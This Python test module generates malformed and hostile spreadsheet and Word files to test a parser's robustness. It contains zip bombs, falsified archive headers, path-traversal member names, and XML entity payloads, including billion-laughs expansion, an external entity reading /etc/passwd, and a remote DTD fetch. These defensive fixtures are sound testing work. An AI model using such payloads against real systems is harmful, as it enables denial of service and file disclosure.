"""Damage to zipped formats: bombs, lying archives, entities, and absurd sheets and tables."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from functools import cache
from random import Random

from tests.lists import seeds
from tests.lists.damage import Damaged, good, kind, records_in

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
DOCUMENT = "word/document.xml"
_ZIPPED = (".xlsx", ".docx", ".ods")
_MAIN = {".xlsx": SHEET, ".docx": DOCUMENT, ".ods": "content.xml"}
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _changed(suffix: str, **members: str | bytes) -> bytes:
    return seeds.zipped({**seeds.unzipped(good(suffix, 12)), **members})


# --- archives ----------------------------------------------------------------------------------


@cache
def _zeros(megabytes: int) -> bytes:
    return bytes(megabytes << 20)


@cache
def _bomb(member: str, megabytes: int) -> bytes:
    return seeds.zipped({member: _zeros(megabytes)})


@kind("zip bomb")
def _zip_bomb(rng: Random) -> Damaged:
    suffix = rng.choice(_ZIPPED)
    member = rng.choice([_MAIN[suffix], STRINGS, "xl/media/image1.png", "word/styles.xml"])
    if rng.random() < 0.3:
        return Damaged(suffix, _bomb(member, rng.choice([5, 60])), must_refuse=True)
    return Damaged(
        suffix, _changed(suffix, **{member: _zeros(rng.choice([5, 60]))}), must_refuse=True
    )


@kind("zip in zip")
def _nested_zip(rng: Random) -> Damaged:
    data = _bomb("a", 5)
    for depth in range(rng.choice([1, 5, 20])):
        data = seeds.zipped(
            {f"{depth}.zip": data, rng.choice(["xl/a.zip", "b.xlsx", "c"]): data[:999]}
        )
    return Damaged(rng.choice([".xlsx", ".docx", ".csv"]), data, must_refuse=True)


@cache
def _crowd(members: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(members):
            archive.writestr(f"xl/worksheets/sheet{i}.xml", "<worksheet/>")
    return out.getvalue()


@kind("many members")
def _many_members(rng: Random) -> Damaged:
    return Damaged(".xlsx", _crowd(rng.choice([9_000, 12_000, 30_000])), must_refuse=True)


@kind("archive that lies")
def _lying(rng: Random) -> Damaged:
    """Sizes, checksums, offsets and methods in the two directories of an archive."""
    suffix = rng.choice(_ZIPPED)
    data = bytearray(good(suffix, 12))
    field = rng.choice([(b"PK\x01\x02", 46), (b"PK\x03\x04", 30), (b"PK\x05\x06", 22)])
    places = [m.start() for m in re.finditer(re.escape(field[0]), bytes(data))]
    for place in rng.sample(places, k=min(len(places), rng.choice([1, 3]))):
        at = place + rng.randrange(4, field[1] - 4)
        struct.pack_into(
            "<I", data, at, rng.choice([0, 1, 0x7FFFFFFF, 0xFFFFFFFF, rng.getrandbits(32)])
        )
    return Damaged(suffix, bytes(data), records_in(suffix, 12))


@kind("members that overlap")
def _overlapping(rng: Random) -> Damaged:
    """Many entries of the directory share one packed member: few bytes, much content."""
    data = _changed(".xlsx", **{SHEET: b" " * (1 << 20)})
    end = data.rindex(b"PK\x05\x06")
    count, _, size, start = struct.unpack_from("<HHII", data, end + 8)
    directory = data[start:end]
    entry = directory[: directory.index(b"PK\x01\x02", 4)]
    copies = rng.choice([50, 2_000])
    total = count + copies
    tail = data[end : end + 8] + struct.pack(
        "<HHII", total, total, size + copies * len(entry), start
    )
    return Damaged(".xlsx", data[:end] + entry * copies + tail + b"\0\0", records_in(".xlsx", 12))


@kind("member names")
def _member_names(rng: Random) -> Damaged:
    """Names that point outside: harmless, because nothing is ever unpacked to the disk."""
    name = rng.choice(
        [
            "../../evil.xml",
            "/etc/passwd",
            "C:\\evil.xml",
            "xl/../../x.rels",
            "a" * 60_000,
            "\u202e.xml",
            "",
        ]
    )
    suffix = rng.choice(_ZIPPED)
    return Damaged(suffix, _changed(suffix, **{name: "<x/>"}), records_in(suffix, 12))


@kind("password")
def _password(rng: Random) -> Damaged:
    """The flag of encryption in every header, as a zip program sets it."""
    suffix = rng.choice(_ZIPPED)
    data = bytearray(good(suffix, 12))
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(magic), bytes(data)):
            data[found.start() + place] |= 1
    return Damaged(suffix, bytes(data), must_refuse=True)


# --- XML ---------------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
_DECLARED = (
    f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>',
    '<!DOCTYPE x [<!ENTITY l0 SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>',
    '<!doctype x SYSTEM "x.dtd">',
    f'<!DOCTYPE x [<!ENTITY l0 "{"A" * 50_000}">]>',
)


@kind("entities")
def _entities(rng: Random) -> Damaged:
    suffix = rng.choice(_ZIPPED)
    members = seeds.unzipped(good(suffix, 12))
    part = rng.choice([name for name in members if name.endswith((".xml", ".rels"))])
    text = re.sub(r"^<\?xml[^>]*\?>\s*", "", bytes(members[part]).decode())
    used = "&l9;" if rng.random() < 0.5 else "&l0;"
    text = rng.choice(_DECLARED) + re.sub(r">([^<\s])", lambda m: f">{used}{m[1]}", text, count=50)
    encoding = rng.choice(["utf-8", "utf-16"])
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + "\n" * rng.choice([0, 1_200_000]) + text
    return Damaged(suffix, _changed(suffix, **{part: text.encode(encoding)}), must_refuse=True)


@kind("part cut or gone")
def _part_gone(rng: Random) -> Damaged:
    suffix = rng.choice(_ZIPPED)
    members = seeds.unzipped(good(suffix, 12))
    part = rng.choice(sorted(members))
    content = bytes(members.pop(part))
    if rng.random() < 0.6:
        members[part] = content[: rng.randrange(len(content))] if content else b""
    return Damaged(suffix, seeds.zipped(members))


@kind("part of another")
def _part_swapped(rng: Random) -> Damaged:
    """Relationships that point to the wrong part."""
    suffix = rng.choice(_ZIPPED)
    members = seeds.unzipped(good(suffix, 12))
    a, b = rng.sample(sorted(members), k=2)
    members[a], members[b] = members[b], members[a]
    return Damaged(suffix, seeds.zipped(members))


@kind("XML changed")
def _xml_changed(rng: Random) -> Damaged:
    suffix = rng.choice(_ZIPPED)
    part = rng.choice([_MAIN[suffix], *([STRINGS, "xl/workbook.xml"] if suffix == ".xlsx" else [])])
    content = bytearray(seeds.unzipped(good(suffix, 12))[part])
    for _ in range(rng.choice([1, 5, 50])):
        content[rng.randrange(len(content))] = rng.choice(b'<>"&/=;A9 \0\xff')
    return Damaged(suffix, _changed(suffix, **{part: bytes(content)}))


# --- sheets ------------------------------------------------------------------------------------


def _sheet(body: str, before: str = "", after: str = "") -> Damaged:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    xml = f'<worksheet xmlns="{main}">{before}<sheetData>{body}</sheetData>{after}</worksheet>'
    return Damaged(".xlsx", _changed(".xlsx", **{SHEET: xml}))


def _text_cell(place: str, text: str = "产品名称") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


@kind("far corners")
def _corners(rng: Random) -> Damaged:
    column, row = rng.choice(
        [("XFD", 1_048_576), ("A", 1_048_576), ("T", 900_000), ("XFD", 1), ("XFD", 1_000), ("ZZZZ", 9), ("A", 10**9), ("", 7)]
    )  # fmt: skip
    rows = f'<row r="1">{_text_cell("A1")}</row><row r="{row}">{_text_cell(f"{column}{row}")}</row>'
    return _sheet(rows.replace('"', rng.choice(['"', "'"])))


@kind("cells without places")
def _placeless(rng: Random) -> Damaged:
    """Rows and cells may leave their places out; a wide first row then spans what follows."""
    wide, high = rng.choice([(16_384, 3_000), (300, 30_000), (20_000, 1)])
    cell = "<c><v>1</v></c>"
    return _sheet(f"<row>{cell * wide}</row>" + f"<row>{cell}</row>" * high)


@kind("strings")
def _strings(rng: Random) -> Damaged:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    text, uses = rng.choice([("字" * 32_000, 30_000), ("x" * 3_000_000, 300), ("泵", 60_000)])
    claim = rng.choice([1, 2**31, 2**64, -1])
    strings = f'<sst xmlns="{main}" uniqueCount="{claim}"><si><t>{text}</t></si></sst>'
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, uses))
    sheet = f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'
    return Damaged(".xlsx", _changed(".xlsx", **{STRINGS: strings, SHEET: sheet}))


@kind("merges")
def _merges(rng: Random) -> Damaged:
    one = rng.choice(
        ["A1:XFD1048576", "A1:A1", "B2:A1", "A0:B0", "x", "A1:B2:C3", "A1:ZZZZ99999999"]
    )
    count = rng.choice([1, 3_000])
    merged = f'<mergeCells count="{count}">{f"""<mergeCell ref="{one}"/>""" * count}</mergeCells>'
    content = bytes(seeds.unzipped(good(".xlsx", 12))[SHEET]).decode()
    content = content.replace("</sheetData>", "</sheetData>" + merged)
    return Damaged(".xlsx", _changed(".xlsx", **{SHEET: content}))


@kind("cell values")
def _cell_values(rng: Random) -> Damaged:
    type_ = rng.choice(["n", "d", "b", "e", "s", "str", "inlineStr", "x", ""])
    value = rng.choice(
        [
            "1e308",
            "1e999",
            "-1",
            "nan",
            "99999999999",
            "2958466",
            "-700000",
            "2026-13-45",
            "&#x1;",
            "",
            "字",
        ]
    )
    style = rng.choice(["", ' s="1"', ' s="99999"', ' s="-1"'])
    cells = "".join(f'<c r="{c}2" t="{type_}"{style}><v>{value}</v></c>' for c in "ABCD")
    return _sheet(
        f'<row r="1">{_text_cell("A1")}{_text_cell("B1", "年需求量")}</row><row r="2">{cells}</row>'
    )


@kind("deep XML")
def _deep_xml(rng: Random) -> Damaged:
    suffix, depth = rng.choice(_ZIPPED), rng.choice([200, 300, 100_000])
    tag = rng.choice(["row", "w:tbl", "text:p", "x"])
    deep = f"<{tag}>" * depth + f"</{tag}>" * rng.choice([0, depth])
    return Damaged(
        suffix, _changed(suffix, **{_MAIN[suffix]: f"<r {_W}>{deep}</r>"}), must_refuse=True
    )


@kind("repeats")
def _repeats(rng: Random) -> Damaged:
    """An ods says how often a cell or a row is repeated."""
    rows, columns = rng.choice(
        [(1_048_576, 16_384), (2**31, 2), (5, 2**40), (-1, 3), (1_048_576, 3), (2, 900)]
    )
    content = bytes(seeds.unzipped(good(".ods", 12))["content.xml"]).decode()
    content = content.replace(
        "<table:table-row>", f'<table:table-row table:number-rows-repeated="{rows}">', 1
    )
    content = content.replace(
        "<table:table-cell ", f'<table:table-cell table:number-columns-repeated="{columns}" ', 1
    )
    return Damaged(".ods", _changed(".ods", **{"content.xml": content}))


# --- Word tables -------------------------------------------------------------------------------


def _document(body: str) -> Damaged:
    return Damaged(
        ".docx",
        _changed(".docx", **{DOCUMENT: f"<w:document {_W}><w:body>{body}</w:body></w:document>"}),
    )


def _w_cell(text: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"


@kind("table in table")
def _nested_table(rng: Random) -> Damaged:
    inner = ""
    for _ in range(rng.choice([3, 30, 60, 2_000])):
        inner = f"<w:tbl><w:tr><w:tc>{inner}<w:p/></w:tc>{_w_cell('产品名称')}</w:tr></w:tbl>"
    return _document(inner)


@kind("spans")
def _spans(rng: Random) -> Damaged:
    span = rng.choice(["0", "-5", "2", "1000", "2147483647", "9" * 30, "x", "1.5"])
    tag = rng.choice(["gridSpan", "vMerge", "hMerge"])
    cell = _w_cell("产品名称", f'<w:{tag} w:val="{span}"/>')
    before = f'<w:trPr><w:gridBefore w:val="{span}"/></w:trPr>' if rng.random() < 0.5 else ""
    row = f"<w:tr>{before}{cell}{_w_cell('规格')}</w:tr>"
    return _document(f"<w:tbl>{row}{row * rng.choice([1, 500])}</w:tbl>")


@kind("wide or long tables")
def _large_tables(rng: Random) -> Damaged:
    wide, high, tables = rng.choice([(1_500, 2, 1), (900, 30, 1), (3, 6_000, 1), (2, 2, 2_000)])
    row = f"<w:tr>{_w_cell('产品名称') * wide}</w:tr>"
    return _document(f"<w:tbl>{row * high}</w:tbl>" * tables)
